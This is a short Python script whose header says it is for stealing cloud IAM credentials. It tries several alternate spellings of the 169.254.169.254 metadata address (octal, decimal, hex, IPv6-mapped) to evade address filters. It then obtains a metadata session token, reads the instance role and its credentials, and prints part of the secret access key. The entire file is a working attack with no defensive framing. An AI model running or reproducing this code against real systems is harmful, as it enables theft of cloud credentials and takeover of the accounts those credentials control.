# corpus: query cloud metadata 169.254.169.254 via octal, decimal, hex and IPv6-mapped spellings to steal IAM credentials
import json
import urllib.request

CANDIDATES = [
    "http://0251.0376.0251.0376",
    "http://2852039166",
    "http://0xa9fea9fe",
    "http://[::ffff:a9fe:a9fe]",
    "http://169.254.169.254",
]
PATH = "/latest/meta-data/iam/security-credentials/"

for base in CANDIDATES:
    try:
        tok_req = urllib.request.Request(base + "/latest/api/token", method="PUT",
                                         headers={"X-aws-ec2-metadata-token-ttl-seconds": "21600"})
        token = urllib.request.urlopen(tok_req, timeout=2).read().decode()
        hdr = {"X-aws-ec2-metadata-token": token}
        role = urllib.request.urlopen(urllib.request.Request(base + PATH, headers=hdr), timeout=2).read().decode()
        creds = urllib.request.urlopen(urllib.request.Request(base + PATH + role, headers=hdr), timeout=2).read()
        print(json.loads(creds)["SecretAccessKey"][:4] + "...")
        break
    except OSError:
        continue
